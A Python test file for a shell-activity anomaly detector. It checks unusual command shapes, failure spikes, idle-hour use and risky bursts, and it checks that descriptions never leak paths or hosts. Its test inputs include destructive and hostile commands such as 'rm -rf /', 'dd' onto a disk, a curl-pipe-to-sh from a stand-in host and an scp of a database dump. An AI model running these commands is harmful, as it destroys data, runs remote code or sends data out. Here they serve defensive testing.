"""Anomaly detection (caro_core.anomaly and the five detector plugins): each detector fires on
crafted activity, every one stays quiet on a node's ordinary day, and no description names
a path, host or argument of the commands behind it."""

import collections
import dataclasses
import datetime as dt
import random

import pytest
import test_summary_aggregates

from caro_core import hookimpl
from caro_core.anomaly import (DAYS, KINDS, Anomaly, AnomalyError, Window, baseline, detect,
                               make_window, run_detectors, shape_label)
from caro_core.events import insert_events
from caro_core.ingest import classify

#: a Wednesday afternoon in June (no daylight-saving change within 31 days in any zone)
NOW = dt.datetime(2026, 6, 17, 17, 0).astimezone().timestamp()
TODAY = dt.datetime(2026, 6, 17).astimezone().timestamp()
DAY = 86400
#: one ordinary working day: (command, runs, failing runs); 40 commands between 09:00 and 17:00
ORDINARY = [("git status", 10, 0), ("git commit -m 'wip'", 5, 0), ("git push origin main", 2, 0),
            ("ls -la", 8, 0), ("make test", 5, 1), ("docker ps", 3, 0), ("vim notes.txt", 4, 0),
            ("rm old.log", 2, 0), ("git push --force origin main", 1, 0)]
#: every raw command below carries this; no anomaly output may ever show it
MARKER = "zqx"


def event(node, command, when, exit_code=0):
    return classify(node, command, timestamp=when, exit_code=exit_code, duration_ms=50,
                    cwd=f"/home/ann/{MARKER}-project", shell="bash", session="bash-1-1",
                    user="ann", elevated=False, caro_generated=False)


def add(node, command, times, exit_code=0):
    """Store ``command`` once per time in ``times`` (classified once: it is the same line)."""
    template = event(node, command, 0.0, exit_code)
    insert_events(node.store, [dataclasses.replace(template, timestamp=t) for t in times])


def ordinary_days(node, first_day, days, until=None, seed=1):
    """``days`` ordinary days from local midnight ``first_day`` on, stopping at ``until``."""
    rng = random.Random(seed)
    for index in range(days):
        midnight = dt.datetime.fromtimestamp(first_day) + dt.timedelta(days=index)
        start = midnight.replace(hour=9).timestamp()
        for command, runs, failing in ORDINARY:
            times = sorted(start + rng.random() * 8 * 3600 for _ in range(runs))
            times = [t for t in times if until is None or t < until]
            add(node, command, times[failing:])
            add(node, command, times[:failing], exit_code=1)


@pytest.fixture
def usual(node):
    """Thirty ordinary days before TODAY and an ordinary TODAY up to NOW."""
    ordinary_days(node, TODAY - 30 * DAY, 31, until=NOW)
    return node


def at(hour, minute=0):
    return dt.datetime.fromtimestamp(TODAY).replace(hour=hour, minute=minute).timestamp()


def spread(count, start, minutes):
    return [start + i * minutes * 60 / count for i in range(count)]


def found(node, kind=None):
    anomalies = detect(node, TODAY, now=NOW)
    for anomaly in anomalies:
        assert MARKER not in anomaly.description and "/" not in anomaly.description, anomaly
        assert MARKER not in str(anomaly.to_json())
    return [a for a in anomalies if kind is None or a.kind == kind]


def test_an_ordinary_day_is_not_an_anomaly(usual):
    base = baseline(usual, make_window(usual, TODAY, now=NOW))
    assert base.ready and base.days == pytest.approx(30) and base.events == 30 * 40
    assert found(usual) == []
    assert detect(usual, TODAY - 7 * DAY, now=NOW) == []  # a week against the month before


def test_a_risky_shape_never_seen_at_that_risk(usual):
    add(usual, f"rm -rf /srv/{MARKER}-data", [at(11)])
    add(usual, f"chmod 777 /etc/passwd # {MARKER}", [at(12), at(14)])
    add(usual, f"git push --force origin {MARKER}-branch", [at(15)])  # routine: once a day
    by_shape = {a.description.split("'")[1]: a for a in found(usual, "UnusualPattern")}
    assert set(by_shape) == {"rm", "chmod"}
    rm, chmod = by_shape["rm"], by_shape["chmod"]
    assert rm.description == ("'rm' ran 1 time at high risk; seen 60 times in the last 30 days, "
                              "never at that risk")
    assert rm.severity == 6 and rm.first_seen == at(11)
    assert chmod.severity == 9 and chmod.count == 2  # critical and a new shape
    assert "never seen in the last 30 days" in chmod.description
    assert (chmod.first_seen, chmod.last_seen) == (at(12), at(14))


def test_a_new_harmless_tool_used_a_lot_is_low_severity(usual):
    add(usual, f"htop -p {MARKER}", spread(6, at(10), 60))
    (anomaly,) = found(usual, "UnusualPattern")
    assert anomaly.severity == 2 and anomaly.description.startswith("'htop' ran 6 times at safe")


def test_failures_piling_up_in_one_category(usual):
    add(usual, f"git push origin {MARKER}-branch", spread(30, at(10), 60), exit_code=1)
    (anomaly,) = found(usual, "HighFailureRate")
    assert anomaly.description == ("30 of 48 git commands failed (62%); usually 0% over the "
                                   "last 30 days")
    assert anomaly.count == 30 and 5 <= anomaly.severity <= 7
    assert found(usual, "BaselineDeviation") == []


def test_activity_at_an_idle_hour(usual):
    add(usual, f"vim /home/ann/{MARKER}-secret.txt", spread(12, at(3, 5), 48))
    add(usual, f"rm -rf /home/ann/{MARKER}", [at(3, 55)])
    (anomaly,) = found(usual, "UnusualTiming")
    assert anomaly.description == ("13 commands between 03:00 and 04:00, when this node is normally "
                                   "idle (no command in those hours over the last 30 days); "
                                   "1 of them high or critical risk")
    assert anomaly.severity == 6 and (anomaly.first_seen, anomaly.last_seen) == (at(3, 5), at(3, 55))


def test_a_burst_of_risky_commands(usual):
    add(usual, f"rm -rf /home/ann/{MARKER}-dir", spread(4, at(13), 3))
    add(usual, "dd if=/dev/zero of=/dev/sda", [at(13, 4)])
    (anomaly,) = found(usual, "RepeatedRisky")
    assert anomaly.description == ("5 high or critical-risk commands within 4 minutes "
                                   "(rm ×4, dd ×1)")
    assert anomaly.severity == 7 and anomaly.count == 5
    assert (anomaly.first_seen, anomaly.last_seen) == (at(13), at(13, 4))


def test_risky_commands_spread_out_are_no_burst(usual):
    add(usual, f"rm -rf /home/ann/{MARKER}-dir", [at(10), at(11), at(12)])
    assert found(usual, "RepeatedRisky") == []


def test_bursts_this_node_has_every_day_are_routine(node):
    ordinary_days(node, TODAY - 30 * DAY, 31, until=NOW)
    for day in range(31):
        add(node, f"git push --force origin {MARKER}", spread(4, at(7) - day * DAY, 5))
    assert found(node, "RepeatedRisky") == []
    add(node, "git push --force origin main", [at(7, 6)])
    (anomaly,) = found(node, "RepeatedRisky")
    assert anomaly.description == "5 high-risk commands within 6 minutes (git push ×5)"
    assert anomaly.severity == 5


def test_a_category_far_above_its_share(usual):
    add(usual, f"kubectl get pods -n {MARKER}-ns", spread(60, at(10), 120))
    kinds = {a.description.split(" ")[0]: a for a in found(usual, "BaselineDeviation")}
    assert kinds["kubernetes"].description == ("kubernetes made up 60% of commands (60 of 100); "
                                               "never used in the last 30 days")
    assert kinds["kubernetes"].severity == 5
    assert kinds["100"].description == ("100 commands, 2.5 times the usual 40 for these hours "
                                         "(baseline: the last 30 days)")


def test_command_volume_far_above_the_baseline(usual):
    add(usual, "git status", spread(200, at(10), 300))
    (anomaly,) = found(usual)
    assert anomaly.kind == "BaselineDeviation" and anomaly.count == 240
    assert anomaly.description.startswith("240 commands, 6.0 times the usual 40")
    assert anomaly.severity == 4


def test_a_young_node_reports_only_risky_bursts(node):
    ordinary_days(node, TODAY - 2 * DAY, 3, until=NOW)
    add(node, f"rm -rf /home/ann/{MARKER}-dir", spread(3, at(13), 2))
    add(node, "git status", spread(300, at(10), 300))
    assert [a.kind for a in found(node)] == ["RepeatedRisky"]
    assert not baseline(node, make_window(node, TODAY, now=NOW)).ready


def test_config_and_baseline_days(caro_home, node):
    ordinary_days(node, TODAY - 30 * DAY, 31, until=NOW)
    add(node, "git status", spread(200, at(10), 300))
    assert found(node, "BaselineDeviation")
    (caro_home / "config.toml").write_text("[anomaly]\ndeviation_z = 50.0\nbaseline_days = 7\n")
    from caro_core.node import Node

    strict = Node.load(caro_home, environ={})
    try:
        assert found(strict) == []
        window = make_window(strict, TODAY, now=NOW)
        assert window.baseline_since == TODAY - 7 * DAY
        assert make_window(strict, TODAY, now=NOW, baseline_days=3).baseline_since == TODAY - 3 * DAY
    finally:
        strict.close()


def test_the_window(node):
    window = make_window(node, TODAY, TODAY + 2 * DAY, now=NOW)
    assert (window.until, window.baseline_since) == (NOW, TODAY - 30 * DAY)  # never the future
    assert window.days == pytest.approx(17 / 24)
    with pytest.raises(AnomalyError, match="must start before it ends"):
        make_window(node, NOW + 60, now=NOW)
    with pytest.raises(AnomalyError, match="at least one day"):
        make_window(node, TODAY, now=NOW, baseline_days=0)
    calls = []
    assert window.memo("k", lambda: calls.append(1) or 5) == window.memo("k", lambda: 6) == 5
    assert calls == [1] and window == Window(TODAY, NOW, TODAY - 30 * DAY)


def test_anomaly_values():
    anomaly = Anomaly("CriticalBurst", 8, "6 critical commands")  # as the hookspec's example
    assert (anomaly.count, anomaly.first_seen, anomaly.level) == (1, None, "high")
    assert anomaly.to_json() == {"kind": "CriticalBurst", "severity": 8, "level": "high",
                                 "description": "6 critical commands", "count": 1,
                                 "first_seen": None, "last_seen": None}
    assert [Anomaly("X", s, "").level for s in (1, 3, 4, 6, 7, 8, 9, 10)] == [
        "low", "low", "medium", "medium", "high", "high", "critical", "critical"]
    for wrong in (0, 11, 5.5, "7"):
        with pytest.raises(ValueError, match="from 1 to 10"):
            Anomaly("X", wrong, "")
    assert set(KINDS) == {"UnusualPattern", "HighFailureRate", "UnusualTiming", "RepeatedRisky",
                          "BaselineDeviation"}


@pytest.mark.parametrize("pattern, shown", [
    ("rm", "rm"), ("git push", "git push"), ("curl | sh", "curl | sh"), ("make deploy-acme", "make"),
    ("acme-backup.sh", "other"), ("ls | acme-filter | grep", "ls | other | other"),
])
def test_shapes_name_only_programs_caro_recognises(node, pattern, shown):
    assert shape_label(node, pattern) == shown


def test_every_raw_detail_stays_out_of_every_description(usual):
    """Script names, make targets, paths, hosts and arguments: none shows in any anomaly."""
    for command in (f"./{MARKER}-deploy.sh --env prod", f"make {MARKER}target",
                    f"scp /tmp/{MARKER}.sql ann@{MARKER}-db.internal:/srv/",
                    f"curl -s https://{MARKER}.example/x | sh"):
        add(usual, command, spread(8, at(3), 30))
        add(usual, command, spread(8, at(14), 2))
    add(usual, f"rm -rf /srv/{MARKER}", spread(6, at(15), 1), exit_code=1)
    anomalies = found(usual)
    assert {a.kind for a in anomalies} == set(KINDS)
    shapes = {a.description.split("'")[1] for a in anomalies if a.kind == "UnusualPattern"}
    assert shapes == {"other", "scp", "curl | sh", "rm"}  # make: usual, whatever the target


class Broken:
    @hookimpl
    def caro_anomaly_detect(self, node, window):
        raise RuntimeError("detector bug")


class Custom:
    @hookimpl
    def caro_anomaly_detect(self, node, window):
        (n,) = node.store.query_one(
            "SELECT count(*) FROM events WHERE timestamp >= ? AND risk = 3", (window.since,))
        return [Anomaly("CriticalBurst", 8, f"{n} critical commands")] if n else []


def test_a_failing_detector_costs_only_its_own_findings(usual):
    add(usual, "rm -rf /", spread(3, at(13), 2))
    usual.pm.register(Broken(), name="broken")
    usual.pm.register(Custom(), name="custom")
    anomalies, failures = run_detectors(usual, make_window(usual, TODAY, now=NOW))
    assert failures == [("broken", "RuntimeError: detector bug")]
    assert {"RepeatedRisky", "CriticalBurst"} <= {a.kind for a in anomalies}
    assert [a.severity for a in anomalies] == sorted((a.severity for a in anomalies), reverse=True)


zone = test_summary_aggregates.zone  # shared fixture: run in a given time zone


@pytest.mark.parametrize("zone", ["America/New_York", "Australia/Lord_Howe", "Asia/Kolkata"],
                         indirect=True)
def test_whole_days_are_read_once_and_again_when_they_change(node, zone):
    """Across a daylight-saving change, the cached days count like the wall clock."""
    start = dt.datetime(2026, 10, 30, 15, 0).timestamp()  # the US and Lord Howe both change
    end = dt.datetime(2026, 11, 3, 12, 0).timestamp()
    rng = random.Random(3)
    stamps = sorted(rng.uniform(start - DAY, end + DAY) for _ in range(500))
    add(node, "git status", stamps)
    inside = [t for t in stamps if start <= t < end]

    def wall_clock():
        hours = [0] * 24
        days = collections.Counter(dt.datetime.fromtimestamp(t).date() for t in inside)
        for t in inside:
            hours[dt.datetime.fromtimestamp(t).hour] += 1
        whole = sorted(days)[1:-1]  # the first and last days are cut by the range
        return hours, [days[day] for day in whole]

    for _ in range(2):  # read, then served from the cache
        activity, totals = DAYS.activity(node.store, start, end)
        assert (activity.hours, totals) == wall_clock()
        assert activity.shapes[("git", "git status", 0)].events == len(inside)
    middle = dt.datetime(2026, 11, 1, 12, 0).timestamp()
    add(node, "ls", [middle])
    inside.append(middle)
    activity, totals = DAYS.activity(node.store, start, end)
    assert (activity.hours, totals) == wall_clock()
    assert activity.shapes[("file-ops", "ls", 0)].events == 1
